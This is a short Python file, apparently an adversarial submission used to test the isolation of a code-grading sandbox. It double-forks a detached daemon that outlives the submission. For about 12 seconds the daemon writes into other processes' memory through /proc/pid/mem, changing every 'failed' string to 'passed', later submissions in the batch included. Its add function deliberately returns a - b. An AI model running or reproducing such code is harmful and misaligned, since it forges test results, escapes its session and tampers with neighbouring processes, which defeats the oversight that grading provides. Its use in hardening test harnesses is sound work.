# Batch neighbour, escaped daemon: a double-forked setsid() daemon outlives
# this submission and, for ~12 s, keeps rewriting 'failed' -> 'passed' in the
# memory of every process it can open -- later submissions of the batch
# included (the old attack kept doing it to later submissions).
import os
import time


def rewrite(pid):
    try:
        maps = open("/proc/%d/maps" % pid).read().splitlines()
        mem = os.open("/proc/%d/mem" % pid, os.O_RDWR)
    except OSError:
        return
    try:
        for line in maps:
            parts = line.split()
            if "rw" not in parts[1]:
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if hi - lo > (64 << 20):
                continue
            try:
                data = os.pread(mem, hi - lo, lo)
            except OSError:
                continue
            i = data.find(b"failed\x00")
            while i >= 0:
                try:
                    os.pwrite(mem, b"passed", lo + i)
                except OSError:
                    pass
                i = data.find(b"failed\x00", i + 1)
    finally:
        os.close(mem)


def daemon():
    os.chdir("/")
    me = os.getpid()
    end = time.time() + 12
    while time.time() < end:
        for p in os.listdir("/proc"):
            if p.isdigit() and int(p) != me:
                rewrite(int(p))
        time.sleep(0.002)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            daemon()
        finally:
            os._exit(0)
    os._exit(0)


def add(a, b):
    return a - b
